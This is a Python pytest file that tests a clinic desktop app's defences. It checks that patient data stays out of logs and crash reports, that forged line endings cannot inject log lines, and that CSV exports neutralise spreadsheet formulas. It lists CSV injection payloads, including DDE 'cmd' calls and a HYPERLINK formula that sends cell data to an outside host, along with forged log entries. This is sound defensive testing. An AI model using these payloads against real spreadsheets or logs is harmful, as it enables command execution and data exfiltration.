"""What is written down where other people read it: logs, crash reports, settings, exported tables. Bars L1 to L3."""

from __future__ import annotations

import csv
import faulthandler
import logging
import random
import re
import traceback
import unicodedata
from concurrent.futures import ThreadPoolExecutor
from typing import TYPE_CHECKING

import pytest
from PySide6.QtWidgets import QApplication, QPlainTextEdit, QWidget

from clinic_desktop import log_file
from clinic_desktop.exchange.csv_files import read_rows, write_rows
from clinic_desktop.testing.pages import AppointmentsPage, MainWindowPage, PatientSearchPage
from clinic_desktop.testing.program import StartedProgram
from tests import rows
from tests.journeys.scenes import DOCTOR, visit_in_progress
from tests.reliability.failing_paths import CANARY, failing_paths

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path
    from typing import TextIO

    from clinic_desktop.db.database import Database
    from clinic_desktop.testing.clock import ClinicTestClock
    from clinic_desktop.testing.databases import ThrowAwayDatabase

LOG = logging.getLogger("clinic_desktop.tests")
BEGINS_AN_EVENT = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (INFO|WARNING|ERROR) clinic_desktop\.")
CANARY_PARTS = ("zebediah", "kanarien")


@pytest.fixture
def client_log(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Open the program's log, and close it again."""
    root = logging.getLogger("clinic_desktop")
    before, level = list(root.handlers), root.level
    opened: list[TextIO] = []
    monkeypatch.setattr(faulthandler, "enable", opened.append)
    path = tmp_path / "log" / "clinic-desktop.log"
    log_file.open_log(path)
    yield path
    for handler in [one for one in root.handlers if one not in before]:
        root.removeHandler(handler)
        handler.close()
    root.setLevel(level)
    for file in opened:
        file.close()


def test_l1_no_error_path_tells_about_a_patient(
    clinic_database: ThrowAwayDatabase,
    clinic_clock: ClinicTestClock,
    doctor: Database,
    auditor: Database,
    client_log: Path,
    tmp_path: Path,
    qapp: QApplication,
) -> None:
    server_log = clinic_database.server.log_path
    begins = server_log.stat().st_size
    patient_id = rows.insert(
        clinic_database.admin_connection(),
        "patients",
        rows.patient(firstName="Zebediah", lastName="Kanarienvogel", address=CANARY),
    )
    visit_in_progress(clinic_database, clinic_clock, patient_id, "09:00", diagnosis=CANARY)
    titles: set[str] = set()
    reports: list[str] = []
    raised: list[str] = []
    loud = 0
    with (
        ThreadPoolExecutor(1) as aside,
        StartedProgram(clinic_database.conninfo, now_utc=clinic_clock, settings_folder=tmp_path / "data") as program,
    ):
        window = program.sign_in(DOCTOR)
        PatientSearchPage(window).type("kanarienvogel").expect_names("KANARIENVOGEL, Zebediah")
        AppointmentsPage(window).open("KANARIENVOGEL, Zebediah").expect_text("diagnosis", CANARY)
        form = PatientSearchPage(window).correct("KANARIENVOGEL, Zebediah")
        titles |= _titles()
        form.cancel().expect_closed()
        for what, path in failing_paths(clinic_database, doctor, auditor).items():
            error = aside.submit(path).exception(30)
            if error is None:
                continue
            raised.append(what)
            loud += CANARY in "".join(traceback.format_exception(error))
            LOG.error("it failed", exc_info=error)
            program.meet(error)
            titles |= _titles()
            reports.append(_closed_report())
        program.wait_until_calm()
        MainWindowPage(window).close()
    places = {
        "client log": client_log.read_text(encoding="utf-8"),
        "server log": server_log.read_bytes()[begins:].decode(errors="replace"),
        "crash reports": "\n".join(reports),
        "window titles": "\n".join(titles),
        "settings": "\n".join(one.read_bytes().decode(errors="replace") for one in _files(tmp_path / "data")),
    }
    told = {name: [part for part in CANARY_PARTS if part in text.lower()] for name, text in places.items()}
    assert not any(told.values()), told
    assert "IntegrityError 23505 allergies allergies_pkey" in places["client log"]
    assert "password authentication failed" in places["server log"]
    assert len(raised) >= 20, raised
    assert len([one for one in reports if one]) >= 15
    assert loud >= 9, "the errors themselves do not tell, so nothing was proved"
    print(f"L1: {len(raised)} error paths, {loud} with the patient in their messages, 0 hits in {', '.join(places)}")


def _titles() -> set[str]:
    return {one.windowTitle() for one in QApplication.topLevelWidgets()}


def _closed_report() -> str:
    """Return what is shown; nothing where the same report was shown and closed a moment ago."""
    shown_now = [one for one in _children_named("crash") if one.isVisible()]
    if not shown_now:
        return ""
    (dialog,) = shown_now
    text = dialog.findChild(QPlainTextEdit, "crash-report")
    assert isinstance(text, QPlainTextEdit)
    shown = text.toPlainText()
    dialog.close()
    return shown


def _children_named(name: str) -> list[QWidget]:
    return [one for one in QApplication.topLevelWidgets() if one.objectName() == name]


def _files(folder: Path) -> list[Path]:
    return [one for one in folder.rglob("*") if one.is_file()]


FORGED = "2026-11-25 10:00:00,000 ERROR clinic_desktop.db: forged"
ENDS = (
    "\n",
    "\r",
    "\r\n",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
    "\x1b[2K\x1b[1A",
    "\x08" * 40,
)


def test_l2_an_event_is_one_line_whatever_is_in_it(client_log: Path) -> None:
    events = 0
    for end in ENDS:
        LOG.info("typed: %s", f"nothing{end}{FORGED}")
        LOG.warning(f"nothing{end}{FORGED}")  # noqa: G004 - as somebody careless would
        LOG.error("it failed%s", end, exc_info=ValueError(f"nothing{end}{FORGED}"))
        events += 3
    LOG.error(
        "forged%s", type(f"Evil\n{FORGED}", (Exception,), {})(), exc_info=type(f"Evil\n{FORGED}", (Exception,), {})()
    )
    events += 1

    written = client_log.read_text(encoding="utf-8")
    lines = written.splitlines()
    assert len(lines) == events
    assert all(BEGINS_AN_EVENT.match(line) for line in lines)
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", written)
    print(f"L2: {events} events with forged ends, {len(lines)} lines")


PAYLOADS = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u2003\u200b＝1+1",
    "'=1+1",
)


def test_l3_no_cell_of_an_export_is_a_formula(tmp_path: Path) -> None:
    draw = random.Random(3)  # noqa: S311 - cells of a test
    alphabet = "=+-@\t\r\n '\"＝＋－＠\u200b\u00a0\ufeff\u2060;,|!0aé王"
    cells = [*PAYLOADS, *("".join(draw.choices(alphabet, k=draw.randint(0, 12))) for _ in range(1000))]
    path = tmp_path / "export.csv"

    written = write_rows(path, [(cell, "beside") for cell in cells])

    with path.open(encoding="utf-8-sig", newline="") as file:
        as_spreadsheet = [row[0] for row in csv.reader(file)]
    formulas = [cell for cell in as_spreadsheet if _is_formula(cell)]
    assert formulas == []
    assert list(read_rows(path)) == [(cell, "beside") for cell in cells]
    assert written.rows == len(cells)
    print(f"L3: {len(PAYLOADS)} payloads and 1,000 random cells, {len(formulas)} formulas, all read back")


def _is_formula(cell: str) -> bool:
    """Say it as a spreadsheet might: after everything that is not seen, the first character decides."""
    seen = [one for one in unicodedata.normalize("NFKC", cell) if unicodedata.category(one)[0] not in "CZ"]
    return cell[:1] in {"\t", "\r", "\n"} or (bool(seen) and seen[0] in "=+-@")
